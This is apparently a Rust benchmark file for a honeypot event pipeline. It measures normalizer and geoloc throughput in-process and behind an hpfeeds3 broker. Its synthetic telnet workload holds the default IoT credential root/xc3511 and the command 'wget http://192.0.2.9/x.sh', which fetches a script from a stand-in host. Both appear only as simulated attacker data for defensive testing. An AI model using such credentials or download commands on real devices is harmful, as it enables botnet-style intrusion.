//! The consumers (issue 6): events per second through the normalizer and through geoloc, fed
//! directly (in-process, no broker) and through the real hpfeeds3 broker (the release binary
//! subscribed, a Rust client publishing as fast as the broker takes it). The goal: neither is
//! the bottleneck behind an hpfeeds3 broker (about 40,000 messages/s on this machine).
//!
//! `cargo build --release && cargo run --release -p bench -- consumers`

use std::collections::HashMap;
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use broker_client::{Client, ClientConfig};
use bytes::Bytes;
use geoloc::GeoDb;
use geoloc::consumer::{Geolocator, Outcome};
use normalizer::parse::PayloadLimits;
use normalizer::{Pipeline, SqliteCentralStore};
use testkit::role::RoleProcess;
use testkit::{Authkey, HpfeedsBroker};

const CHAN: &str = "recce7.events";
const GEOLOC: &str = "geoloc.events";

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(f64::total_cmp);
    v[v.len() / 2]
}

/// A public-looking source address for session `i` (spread over many /16s).
fn source(i: usize) -> String {
    format!(
        "{}.{}.{}.{}",
        11 + (i % 200),
        (i / 200) % 256,
        (i / 51_200) % 256,
        1 + i % 250
    )
}

/// `sessions` telnet sessions as a sensor publishes them: start, login, three commands, end
/// (six events each, about 330 bytes on average).
fn telnet_workload(sessions: usize) -> Vec<Bytes> {
    let mut out = Vec::with_capacity(sessions * 6);
    for i in 0..sessions {
        let session = store::new_id();
        let src = source(i);
        let mut push = |kind: &str, data: serde_json::Value| {
            let e = serde_json::json!({
                "schema": 1, "id": store::new_id(), "sensor": "bench", "session": session,
                "time": store::now_rfc3339(), "type": kind, "plugin": "telnet", "protocol": "telnet",
                "src_ip": src, "src_port": 40000 + (i % 20000), "dst_ip": "10.0.0.5", "dst_port": 2323,
                "data": data,
            });
            out.push(Bytes::from(e.to_string()));
        };
        push("session.start", serde_json::json!({"table": "telnet"}));
        push(
            "telnet.login",
            serde_json::json!({"input_type": "login", "username": "root", "password": "xc3511"}),
        );
        for c in [
            "uname -a",
            "cat /proc/cpuinfo",
            "wget http://192.0.2.9/x.sh",
        ] {
            push(
                "telnet.command",
                serde_json::json!({"input_type": "command", "user_input": c}),
            );
        }
        push(
            "session.end",
            serde_json::json!({"bytes_in": 120, "bytes_out": 900, "reason": "logout"}),
        );
    }
    out
}

/// Only the session starts (what geoloc publishes a record for).
fn starts(workload: &[Bytes]) -> Vec<Bytes> {
    workload.iter().step_by(6).cloned().collect()
}

/// Normalizer, in-process: events per second from `submit` to committed.
fn normalizer_direct(rt: &tokio::runtime::Runtime, events: &[Bytes]) -> f64 {
    let dir = tempfile::tempdir().expect("temporary directory");
    let store = SqliteCentralStore::open(&dir.path().join("central.sqlite")).expect("open");
    let pipeline =
        Pipeline::start(Box::new(store), 8192, 1024, PayloadLimits::default()).expect("start");
    let started = Instant::now();
    let snapshot = rt.block_on(async {
        for e in events {
            pipeline
                .submit(CHAN, "bench", e.clone())
                .await
                .expect("submit");
        }
        pipeline.finish().await
    });
    let secs = started.elapsed().as_secs_f64();
    assert_eq!(snapshot.written as usize, events.len(), "{snapshot:?}");
    events.len() as f64 / secs
}

/// geoloc, in-process: messages per second through parse, lookup and record serialisation.
fn geoloc_direct(db: &Arc<GeoDb>, events: &[Bytes]) -> f64 {
    let mut g = Geolocator::new(db.clone(), HashMap::new(), 100_000);
    let started = Instant::now();
    let mut published = 0usize;
    for e in events {
        if let Outcome::Located { record, .. } = g.handle(CHAN, "bench", e) {
            std::hint::black_box(serde_json::to_vec(&record).expect("json"));
            published += 1;
        }
    }
    let secs = started.elapsed().as_secs_f64();
    assert_eq!(published, events.len().div_ceil(6));
    events.len() as f64 / secs
}

fn hpfeeds_table(broker: &HpfeedsBroker, key: &Authkey, channels: &str) -> String {
    format!(
        "\n[hpfeeds]\nhost = \"127.0.0.1\"\nport = {}\nident = \"{}\"\nsecret = \"{}\"\nchannels = [{channels}]\n",
        broker.port(),
        key.ident,
        key.secret
    )
}

async fn publish_all(broker: &HpfeedsBroker, key: &Authkey, events: &[Bytes]) {
    let cfg = ClientConfig::new("127.0.0.1", broker.port(), &key.ident, &key.secret);
    let client = Client::connect(cfg).await.expect("connect publisher");
    for e in events {
        client.publish(CHAN, e.clone()).await.expect("publish");
    }
    client.close().await.expect("close");
}

fn received(central: &Path) -> i64 {
    rusqlite::Connection::open_with_flags(central, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
        .and_then(|c| c.query_row("SELECT count(*) FROM received", [], |r| r.get(0)))
        .unwrap_or(0)
}

/// The normalizer binary behind the broker: events per second from the first publish to the
/// last event committed.
fn normalizer_through_broker(rt: &tokio::runtime::Runtime, events: &[Bytes]) -> f64 {
    let bin = crate::sensor::binary();
    let feeder = Authkey::new("feeder", "f", &[CHAN]);
    let reader = Authkey::new("normalizer", "n", &[CHAN]);
    let broker = HpfeedsBroker::start(&[feeder.clone(), reader.clone()]);
    let dir = tempfile::tempdir().expect("temporary directory");
    let central = dir.path().join("central.sqlite");
    let config = format!(
        "[normalizer]\ndatabase = \"{}\"\n{}",
        central.display(),
        hpfeeds_table(&broker, &reader, "\"recce7.events\"")
    );
    let normalizer = RoleProcess::start(&bin, "normalizer", dir.path(), &config);
    // Subscribed once a probe is stored.
    let probes = telnet_workload(40);
    let mut ready = false;
    for p in probes.iter().step_by(6) {
        rt.block_on(publish_all(&broker, &feeder, std::slice::from_ref(p)));
        std::thread::sleep(Duration::from_millis(300));
        if received(&central) > 0 {
            ready = true;
            break;
        }
    }
    assert!(
        ready,
        "the normalizer never subscribed: {}",
        normalizer.log()
    );
    let before = received(&central);
    let started = Instant::now();
    rt.block_on(publish_all(&broker, &feeder, events));
    let want = before + events.len() as i64;
    let deadline = Instant::now() + Duration::from_secs(300);
    while received(&central) < want {
        assert!(
            Instant::now() < deadline,
            "only {} of {want} stored",
            received(&central)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let secs = started.elapsed().as_secs_f64();
    let (status, log) = normalizer.terminate(Duration::from_secs(30));
    assert!(status.success(), "{log}");
    events.len() as f64 / secs
}

/// The geoloc binary behind the broker: session starts per second from the first publish to
/// the last record received by a subscriber on geoloc.events.
fn geoloc_through_broker(rt: &tokio::runtime::Runtime, starts: &[Bytes], geoip: &Path) -> f64 {
    let bin = crate::sensor::binary();
    let feeder = Authkey::new("feeder", "f", &[CHAN]);
    let geoloc = Authkey::new("geoloc", "g", &[]).with_channels(&[GEOLOC], &[CHAN]);
    let map = Authkey::new("map", "m", &[GEOLOC]);
    let broker = HpfeedsBroker::start(&[feeder.clone(), geoloc.clone(), map.clone()]);
    let dir = tempfile::tempdir().expect("temporary directory");
    let config = format!(
        "[geoloc]\ngeoip = \"{}\"\ndatabase = \"{}\"\n{}",
        geoip.display(),
        dir.path().join("central.sqlite").display(),
        hpfeeds_table(&broker, &geoloc, "\"recce7.events\"")
    );
    let process = RoleProcess::start(&bin, "geoloc", dir.path(), &config);
    let rate = rt.block_on(async {
        let cfg = ClientConfig::new("127.0.0.1", broker.port(), &map.ident, &map.secret);
        let mut sub = Client::connect(cfg).await.expect("connect subscriber");
        sub.subscribe(GEOLOC).await.expect("subscribe");
        // Both subscriptions are live once a probe's record arrives.
        let probes = starts_probe();
        let mut ready = false;
        for p in &probes {
            publish_all(&broker, &feeder, std::slice::from_ref(p)).await;
            if let Ok(Some(Ok(_))) =
                tokio::time::timeout(Duration::from_millis(300), sub.recv()).await
            {
                ready = true;
                break;
            }
        }
        assert!(ready, "geoloc never answered a probe");
        while let Ok(Some(_)) = tokio::time::timeout(Duration::from_millis(300), sub.recv()).await {
        }
        let started = Instant::now();
        let publisher = {
            let events = starts.to_vec();
            let broker_port = broker.port();
            let feeder = (feeder.ident.clone(), feeder.secret.clone());
            tokio::spawn(async move {
                let cfg = ClientConfig::new("127.0.0.1", broker_port, &feeder.0, &feeder.1);
                let client = Client::connect(cfg).await.expect("connect publisher");
                for e in events {
                    client.publish(CHAN, e).await.expect("publish");
                }
                client.close().await.expect("close");
            })
        };
        for _ in 0..starts.len() {
            tokio::time::timeout(Duration::from_secs(60), sub.recv())
                .await
                .expect("a record within 60 s")
                .expect("open")
                .expect("a message");
        }
        publisher.await.expect("publisher");
        starts.len() as f64 / started.elapsed().as_secs_f64()
    });
    let (status, log) = process.terminate(Duration::from_secs(30));
    assert!(status.success(), "{log}");
    rate
}

fn starts_probe() -> Vec<Bytes> {
    starts(&telnet_workload(40))
}

/// Runs every measurement and prints rows for docs/BENCHMARKS.md.
pub fn run() {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    let geoip = testkit::workspace_root().join("geoloc/testdata/GeoLite2-City-Test.mmdb");
    let db = Arc::new(GeoDb::open(&geoip).expect("the test database"));
    let runs = 3;
    let workload = telnet_workload(20_000); // 120,000 events
    let starts_only = starts(&workload);

    let direct: Vec<f64> = (0..runs)
        .map(|_| normalizer_direct(&rt, &workload))
        .collect();
    println!(
        "| normalizer, in-process (120,000 events: 20,000 telnet sessions × 6), median of {runs} | {:.0} events/s | runs: {} |",
        median(direct.clone()),
        list(&direct)
    );
    let direct: Vec<f64> = (0..runs).map(|_| geoloc_direct(&db, &workload)).collect();
    println!(
        "| geoloc, in-process (same 120,000 events; 20,000 records), median of {runs} | {:.0} events/s | runs: {} |",
        median(direct.clone()),
        list(&direct)
    );
    let broker: Vec<f64> = (0..runs)
        .map(|_| normalizer_through_broker(&rt, &workload))
        .collect();
    println!(
        "| normalizer binary behind the hpfeeds3 broker (120,000 events published at full speed), median of {runs} | {:.0} events/s | runs: {} |",
        median(broker.clone()),
        list(&broker)
    );
    let broker: Vec<f64> = (0..runs)
        .map(|_| geoloc_through_broker(&rt, &starts_only, &geoip))
        .collect();
    println!(
        "| geoloc binary behind the broker (20,000 session starts in, 20,000 records out to a subscriber), median of {runs} | {:.0} records/s | runs: {} |",
        median(broker.clone()),
        list(&broker)
    );
}

fn list(v: &[f64]) -> String {
    v.iter()
        .map(|r| format!("{r:.0}"))
        .collect::<Vec<_>>()
        .join(", ")
}
